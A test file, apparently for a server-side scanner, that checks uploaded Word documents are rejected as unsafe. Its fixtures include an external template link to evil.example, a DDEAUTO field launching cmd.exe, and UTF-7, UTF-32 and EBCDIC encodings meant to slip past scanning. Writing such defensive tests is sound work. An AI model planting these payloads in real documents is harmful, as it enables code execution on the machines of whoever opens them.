import { expect, test } from 'vitest'
import { wordParts, zipOf } from '#server/test/sample-archives.ts'
import { officeFile } from './office-file.ts'

const problem = async (name: string, content: string | Buffer) =>
  (await officeFile(zipOf([...wordParts, { name, content }]))).problem

test.for(['.rels\0.png', '.rel%73', '%2erels', '.%52ELS'])(
  'a document whose list of links has a name that programs read in two ways is unsafe: %j',
  async (ending) => {
    const links = '<Relationship Type="/attachedTemplate" TargetMode="External" Target="https://evil.example/a.dotm"/>'
    expect(await problem(`word/_rels/settings.xml${ending}`, links)).toBe('fileUnsafe')
  },
)

test('a document with a picture under an Arabic name, a space or a percent sign is accepted', async () => {
  for (const name of ['صورة', 'a%20b', '%D8%B5', '100%'])
    expect(await problem(`word/media/${name}.png`, 'x'), name).toBe(undefined)
})

test.for<[string, string, BufferEncoding]>([
  ['word/document.dat', '', 'utf8'],
  ['customXml/item1.xml', '', 'utf8'],
  ['customXml/item1.xml', '\ufeff', 'utf16le'],
  ['customXml/item1.xml', ' ', 'utf16le'],
])('a document in which a part of any name runs a program is unsafe: %s, %j, %s', async ([name, before, coding]) => {
  const xml = Buffer.from(`${before}<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>`, coding)
  expect(await problem(name, xml)).toBe('fileUnsafe')
  if (coding === 'utf16le') expect(await problem(name, Buffer.from(xml).swap16())).toBe('fileUnsafe')
  expect(await problem(name, Buffer.from('<a>DDEAUTO</a>', coding))).toBe(undefined)
})

/** Returns the text in UTF-32, little-endian or big-endian. */
function utf32(text: string, order: 'LE' | 'BE'): Buffer {
  const bytes = Buffer.alloc(4 * text.length)
  for (const [place, letter] of [...text].entries()) bytes[`writeUInt32${order}`](letter.codePointAt(0) ?? 0, 4 * place)
  return bytes
}

const declared = (coding: string) => `<?xml version="1.0" encoding="${coding}"?>`

test.for<[string, string | Buffer]>([
  ['EBCDIC', Buffer.from('4c6fa794934040', 'hex')],
  ['UTF-32', utf32(declared('utf-32'), 'LE')],
  ['the other UTF-32', utf32('<و:p/>', 'BE')],
  ['UTF-32 without a declaration', utf32('<و:p/>', 'LE')],
  ['UTF-32 with a mark', utf32('\ufeff<w:p/>', 'LE')],
  ['the other UTF-32 with a mark', utf32('\ufeff<w:p/>', 'BE')],
  ['UTF-7', `${declared('UTF-7')}+ADw-w:instrText+AD4-DDEAUTO`],
  ['UTF-7 after the mark of UTF-8', `\ufeff${declared('UTF-7')}`],
  ['a declared code page of EBCDIC', declared('IBM037')],
  ['an encoding far away in its declaration', `<?xml version="1.0"${' '.repeat(2000)}encoding="utf-7"?>`],
])('a document with a part in %s, which no search reads, is unsafe', async ([, content]) => {
  for (const name of ['customXml/item1.xml', 'word/document.dat', 'word/media/image1.svg'])
    expect(await problem(name, content), name).toBe('fileUnsafe')
})

test.for<[string, string, string | Buffer]>([
  ['an SVG in ISO-8859-1', 'word/media/image1.svg', `${declared('iso-8859-1')}<svg/>`],
  ['custom data in an Arabic code page', 'customXml/item1.xml', `${declared('windows-1256')}<a/>`],
  ['custom data that name UTF-16', 'customXml/item1.xml', `${declared('utf-16')}<a/>`],
  ['custom data without a declaration', 'customXml/item1.xml', '<a/>'],
  ['a video', 'word/media/video1.mp4', '\0\0\0<ftypisom'],
  ['an empty part', 'word/embeddings/empty.bin', ''],
])('a document with %s is accepted', async ([, name, content]) => {
  expect(await problem(name, content)).toBe(undefined)
})
